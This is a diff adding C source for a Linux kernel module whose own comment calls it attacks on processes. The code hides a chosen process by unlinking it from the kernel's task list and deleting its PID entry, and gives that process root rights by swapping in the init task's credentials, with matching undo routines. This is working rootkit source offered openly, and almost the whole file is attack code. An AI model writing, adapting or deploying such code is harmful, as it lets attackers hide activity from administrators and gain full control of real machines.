@@ -1,0 +1,98 @@
+// SPDX-License-Identifier: GPL-2.0
+/* Attacks on processes: they hide one, or give it rights. */
+#include "intruder.h"
+#include <linux/cred.h>
+#include <linux/idr.h>
+#include <linux/pid.h>
+#include <linux/pid_namespace.h>
+#include <linux/sched.h>
+#include <linux/sched/task.h>
+
+static struct pid *intruder_number;
+static struct task_struct *intruder_task;
+
+/* ---- masked interrupts keep this CPU from forking; other CPUs aren't kept from it ---- */
+
+static int intruder_find(void)
+{
+	intruder_number = find_get_pid(intruder_pid);
+	intruder_task = intruder_number ? get_pid_task(intruder_number, PIDTYPE_TGID) : NULL;
+	return intruder_task ? 0 : -ESRCH;
+}
+
+int intruder_list(void)
+{
+	if (intruder_find())
+		return -ESRCH;
+	local_irq_disable();
+	__list_del_entry(&intruder_task->tasks);
+	local_irq_enable();
+	return 0;
+}
+
+static bool intruder_is_listed(void)
+{
+	struct task_struct *task;
+	bool listed = false;
+
+	rcu_read_lock();
+	for_each_process(task) listed |= task == intruder_task;
+	rcu_read_unlock();
+	return listed;
+}
+
+void intruder_list_undo(void)
+{
+	intruder_undone = intruder_is_listed();
+	if (intruder_undone)
+		return;
+	local_irq_disable();
+	list_add_tail(&intruder_task->tasks, &init_task.tasks);
+	local_irq_enable();
+}
+
+int intruder_tree(void)
+{
+	if (intruder_find())
+		return -ESRCH;
+	idr_remove(&init_pid_ns.idr, intruder_pid);
+	return 0;
+}
+
+void intruder_tree_undo(void)
+{
+	if (idr_alloc(&init_pid_ns.idr, intruder_number, intruder_pid, intruder_pid + 1,
+	              GFP_KERNEL) < 0)
+		pr_err("intruder: the number is somebody else's now\n");
+}
+
+/* ---- credentials ---- */
+
+static const struct cred *intruder_cred;
+
+int intruder_give(void)
+{
+	if (intruder_find())
+		return -ESRCH;
+	intruder_cred = intruder_task->cred;
+	get_cred(init_task.cred);
+	get_cred(init_task.cred);
+	rcu_assign_pointer(intruder_task->real_cred, init_task.cred);
+	rcu_assign_pointer(intruder_task->cred, init_task.cred);
+	return 0;
+}
+
+void intruder_give_undo(void)
+{
+	rcu_assign_pointer(intruder_task->real_cred, intruder_cred);
+	rcu_assign_pointer(intruder_task->cred, intruder_cred);
+	put_cred(init_task.cred);
+	put_cred(init_task.cred);
+}
+
+void intruder_forget(void)
+{
+	if (intruder_task)
+		put_task_struct(intruder_task);
+	put_pid(intruder_number);
+}
